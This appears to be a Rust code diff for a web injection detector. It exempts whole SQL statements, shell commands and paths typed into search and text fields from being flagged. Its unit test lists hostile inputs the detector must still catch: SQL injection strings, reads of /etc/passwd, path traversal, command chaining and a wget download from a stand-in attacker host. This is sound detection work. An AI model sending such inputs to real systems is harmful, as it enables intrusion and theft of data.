@@ -49,6 +49,26 @@ numbered! {
 }
 
 impl Structure {
+    /// The same in the value of a parameter of this name, and nothing for what is no injection there: a statement that is
+    /// handed to a tool, or a whole statement, command or plain path in a field that people write in.
+    pub fn find_in(self, name: &[u8], value: &[u8], steps: &Steps) -> Option<Finding> {
+        match self {
+            Structure::Sqli if sql::is_handed_over(name, value, steps) => None,
+            Structure::Sqli => self
+                .find(value, steps)
+                .filter(|found| !(is_written(name) && sql::is_said(value, found, steps))),
+            Structure::Command => self
+                .find(value, steps)
+                .filter(|_| !(is_written(name) && shell::is_said(value, steps))),
+            // A page reports what its policy kept from running.
+            Structure::Xss if name.eq_ignore_ascii_case(b"script-sample") => None,
+            Structure::Traversal => self
+                .find(value, steps)
+                .filter(|_| !(is_written(name) && path::is_said(value, steps))),
+            _ => self.find(value, steps),
+        }
+    }
+
     /// Runs the detector, as far as the steps go.
     pub fn find(self, value: &[u8], steps: &Steps) -> Option<Finding> {
         let steps_a_byte = match self {
@@ -69,6 +89,56 @@ impl Structure {
             Structure::Spam => host::spam(value),
         }
     }
+}
+
+/// Names of fields that people write in: search boxes, posts, messages.
+const WRITTEN: &[&str] = &[
+    "q",
+    "s",
+    "query",
+    "search",
+    "keyword",
+    "keywords",
+    "term",
+    "terms",
+    "question",
+    "text",
+    "body",
+    "content",
+    "comment",
+    "message",
+    "msg",
+    "description",
+    "title",
+    "subject",
+    "note",
+    "notes",
+    "post",
+    "prompt",
+    "markdown",
+];
+
+/// Whether people write in a field of this name.
+fn is_written(name: &[u8]) -> bool {
+    WRITTEN
+        .iter()
+        .any(|known| name.eq_ignore_ascii_case(known.as_bytes()))
+}
+
+/// Steps that a look for all of a list of texts costs at one byte.
+const REACH_STEPS: u32 = 12;
+
+/// Whether one of these texts, in lower case, stands anywhere in a value; also if that cannot be said with the steps left.
+fn holds_any(value: &[u8], texts: &[&str], steps: &Steps) -> bool {
+    let bytes = u32::try_from(value.len()).unwrap_or(u32::MAX);
+    let stands_at = |at| {
+        let rest = value.get(at..).unwrap_or_default();
+        texts.iter().map(|text| text.as_bytes()).any(|text| {
+            rest.get(..text.len())
+                .is_some_and(|start| start.eq_ignore_ascii_case(text))
+        })
+    };
+    !steps.take(bytes.saturating_mul(REACH_STEPS)) || (0..value.len()).any(stands_at)
 }
 
 /// Bytes of the longest text that [`is_prose`] reads.
@@ -144,3 +214,54 @@ pub const LOW: u8 = 30;
 pub const MEDIUM: u8 = 60;
 /// Structure that only an attack has.
 pub const HIGH: u8 = 90;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn whole_statements_and_commands_in_a_search_box_are_no_injection() {
+        let found = |name: &str, value: &str| {
+            let steps = Steps::unlimited();
+            let of = |structure: Structure| {
+                structure
+                    .find_in(name.as_bytes(), value.as_bytes(), &steps)
+                    .is_some_and(|found| found.confidence >= MEDIUM)
+            };
+            of(Structure::Sqli) || of(Structure::Command) || of(Structure::Traversal)
+        };
+        for value in [
+            "select * from products",
+            "SELECT name FROM products WHERE price > 10 ORDER BY price;",
+            "insert into users (name) values ('bob')",
+            "ping 8.8.8.8",
+            "chmod +x script.sh",
+            "cat file.txt | sort | uniq",
+            "tar -xzf file.tar.gz && ls -la",
+            "/usr/local/bin",
+            "c:\\windows",
+        ] {
+            assert!(!found("q", value), "{value}");
+            assert!(!found("Search", value), "{value}");
+            // Elsewhere nobody has a reason to send one.
+            assert!(found("id", value), "{value}");
+        }
+        for value in [
+            "1 union select 1,2,3",
+            "select' or 1=1--",
+            "select @@version",
+            "select * from a; drop table b",
+            "select * from mysql.user",
+            "cat /etc/passwd",
+            "ping -c 10 127.0.0.1",
+            "wget http://evil.example/x.sh",
+            "x; ls -la",
+            "ls;id",
+            "c'a't x.txt | sort",
+            "../../../etc/passwd",
+            "/etc/passwd",
+        ] {
+            assert!(found("q", value), "{value}");
+        }
+    }
+}
